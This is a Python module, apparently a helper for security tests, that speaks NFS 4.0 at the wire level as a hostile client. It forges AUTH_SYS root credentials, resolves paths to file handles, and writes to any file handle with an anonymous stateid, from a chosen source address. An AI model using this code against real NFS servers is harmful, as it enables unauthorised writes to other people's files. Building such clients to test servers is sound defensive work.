"""A few calls of NFS 4.0 (RFC 7530) as a client would make them that means harm: with any file handle that it likes."""

from __future__ import annotations

import itertools
import os
import socket
import struct
from collections.abc import Sequence
from typing import NamedTuple

PORT = 2049
_PROGRAM, _VERSION, _COMPOUND = 100003, 4, 1
_GETFH, _LOOKUP, _PUTFH, _PUTROOTFH, _WRITE = 10, 15, 22, 24, 38
_FILE_SYNC = 2
OK, NO_SPACE = 0, 28

_xids = itertools.count(1)


class Answer(NamedTuple):
    """The status of a compound (RFC 7530 section 13.1), and the handle that it asked for at its end."""

    status: int
    handle: bytes = b""


def walk(server: str, names: Sequence[str], *, source: str, start: bytes | None = None) -> Answer:
    """The handle of what these names lead to from a handle, else from the root, for who asks from `source`."""
    first = struct.pack(">I", _PUTROOTFH) if start is None else struct.pack(">I", _PUTFH) + _opaque(start)
    operations = [first, *(struct.pack(">I", _LOOKUP) + _opaque(name.encode()) for name in names)]
    operations.append(struct.pack(">I", _GETFH))
    status, tag, reply = _compound(server, operations, source=source)
    if status != OK:
        return Answer(status)
    at = 8 + tag + -tag % 4 + 4
    at += 8 * (len(operations) - 1)  # operation and status of each
    _, _, length = struct.unpack_from(">III", reply, at)
    return Answer(status, reply[at + 12 : at + 12 + length])


def write(server: str, file: bytes, offset: int, data: bytes, *, source: str) -> int:
    """Write to a file by its handle, as somebody who has not opened it; the status once it is on the disk."""
    nobody = bytes(16)
    write = struct.pack(">I", _WRITE) + nobody + struct.pack(">QI", offset, _FILE_SYNC) + _opaque(data)
    return _compound(server, [struct.pack(">I", _PUTFH) + _opaque(file), write], source=source)[0]


def _compound(server: str, operations: Sequence[bytes], *, source: str) -> tuple[int, int, bytes]:
    """Status, length of the tag, and the whole result."""
    body = _opaque(b"") + struct.pack(">II", 0, len(operations)) + b"".join(operations)
    reply = _call(server, body, source=source)
    status, tag = struct.unpack_from(">II", reply)
    return status, tag, reply


def _call(server: str, body: bytes, *, source: str) -> bytes:
    """The result of COMPOUND, called by root (AUTH_SYS, RFC 5531)."""
    credential = struct.pack(">I", 0) + _opaque(b"test") + struct.pack(">III", 0, 0, 0)
    head = struct.pack(">6I", next(_xids), 0, 2, _PROGRAM, _VERSION, _COMPOUND)
    call = head + struct.pack(">I", 1) + _opaque(credential) + struct.pack(">II", 0, 0) + body
    with socket.create_connection((server, PORT), timeout=10, source_address=(source, 0)) as stream:
        stream.sendall(struct.pack(">I", 0x80000000 | len(call)) + call)
        (mark,) = struct.unpack(">I", _read(stream, 4))
        reply = _read(stream, mark & 0x7FFFFFFF)
    verifier = struct.unpack_from(">I", reply, 16)[0]
    return reply[24 + verifier :]


def _opaque(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


def _read(stream: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        piece = stream.recv(count - len(data))
        assert piece, os.strerror(104)
        data += piece
    return data
